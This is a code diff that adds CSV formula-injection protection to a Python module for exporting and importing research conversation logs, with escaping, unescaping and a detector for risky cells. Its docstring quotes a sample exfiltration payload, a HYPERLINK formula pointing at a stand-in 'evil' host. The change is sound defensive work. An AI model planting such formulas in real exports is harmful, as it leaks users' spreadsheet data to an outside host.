@@ -9,6 +9,14 @@ date, notes``, then one ``estimate:NAME`` column per param and one ``stance:CLAI
 per claim (an empty cell: that person gave none). JSON: ``{"version": 1, "conversations":
 [{"person": ..., "years": ..., ..., "estimates": {NAME: TEXT}, "stances": {CLAIM: STANCE}}]}``.
 
+Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and a tab or
+carriage return before them) as a formula: ``=HYPERLINK("http://evil/?"&A2, "open")`` in a
+note would send your data away when clicked. :func:`format_csv` writes such a text cell
+with a leading apostrophe (``'=HYPERLINK(...)``), which spreadsheets show as text, and
+:func:`parse_csv` removes that apostrophe again, so the log round-trips exactly.
+:func:`formula_cells` lists the cells of an import that a spreadsheet would run, for a
+warning. Estimates and numbers are left as they are: ``-5% to 5%`` is an estimate.
+
 Parsers take text, not files. A bad record is reported as ``FILE:ROW:COLUMN: message``:
 for CSV the row counts records as a spreadsheet does (the header is row 1), for JSON it is
 the conversation's position in the list (from 1) and the column is the field name.
@@ -27,6 +35,7 @@ from crossroads.evidence.research import FIELDS, Conversation, FieldError, make_
 
 __all__ = [
     "ESTIMATE_PREFIX",
+    "FORMULA_START",
     "MAX_PROBLEMS",
     "STANCE_PREFIX",
     "Format",
@@ -34,6 +43,7 @@ __all__ = [
     "format_conversations",
     "format_csv",
     "format_json",
+    "formula_cells",
     "guess_format",
     "parse_conversations",
     "parse_csv",
@@ -45,6 +55,47 @@ ESTIMATE_PREFIX = "estimate:"
 STANCE_PREFIX = "stance:"
 MAX_PROBLEMS = 20
 """An import reports at most this many problems (all of them are fatal)."""
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+"""What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list)."""
+#: Columns whose cells are free text (the rest are numbers, dates, codes and estimates).
+_TEXT_COLUMNS = frozenset({"person", "market", "stage", "size", "role", "notes"})
+
+
+def _escape(cell: str) -> str:
+    """A text cell a spreadsheet would run, prefixed with an apostrophe (also one that
+    already starts with apostrophes before such a character), so :func:`_unescape`
+    restores any text exactly.
+
+    >>> _escape('=HYPERLINK("http://x")'), _escape("'=1"), _escape("'ok")
+    ('\\'=HYPERLINK("http://x")', "''=1", "'ok")
+    """
+    if cell.startswith(FORMULA_START) or (cell.startswith("'") and
+                                          cell.lstrip("'").startswith(FORMULA_START)):
+        return "'" + cell
+    return cell
+
+
+def _unescape(cell: str) -> str:
+    if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_START):
+        return cell[1:]
+    return cell
+
+
+def formula_cells(text: str) -> list[tuple[int, str]]:
+    """``(row, column)`` of every text cell in CSV ``text`` that a spreadsheet would run
+    as a formula, for the warning of `research import`.
+
+    >>> formula_cells("person,years,notes\\nana,3,=1+1\\n")
+    [(2, 'notes')]
+    """
+    reader = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
+    try:
+        names = [c.strip().lower() for c in next(reader)]
+        return [(row, name) for row, cells in enumerate(reader, start=2)
+                for name, cell in zip(names, cells, strict=False)
+                if name in _TEXT_COLUMNS and cell.startswith(FORMULA_START)]
+    except (StopIteration, csv.Error):
+        return []
 
 
 class RecordError(ValueError):
@@ -126,6 +177,7 @@ def _raw_csv_record(names: list[str], cells: list[str]) -> dict[str, object]:
             if cell.strip():
                 stances[name.removeprefix(STANCE_PREFIX)] = cell
         else:
+            cell = _unescape(cell) if name in _TEXT_COLUMNS else cell
             raw[name] = cell if name == "notes" else (cell.strip() or None)
     return raw
 
@@ -187,7 +239,9 @@ def format_csv(conversations: Iterable[Conversation]) -> str:
                      *(STANCE_PREFIX + n for n in sta)])
     for c in log:
         scalars = c.to_dict()
-        writer.writerow([*("" if scalars[f] is None else str(scalars[f]) for f in FIELDS),
+        writer.writerow([*("" if scalars[f] is None else
+                           _escape(str(scalars[f])) if f in _TEXT_COLUMNS else str(scalars[f])
+                           for f in FIELDS),
                          *(c.estimates.get(n, "") for n in est),
                          *(c.stances.get(n, "") for n in sta)])
     return buffer.getvalue()
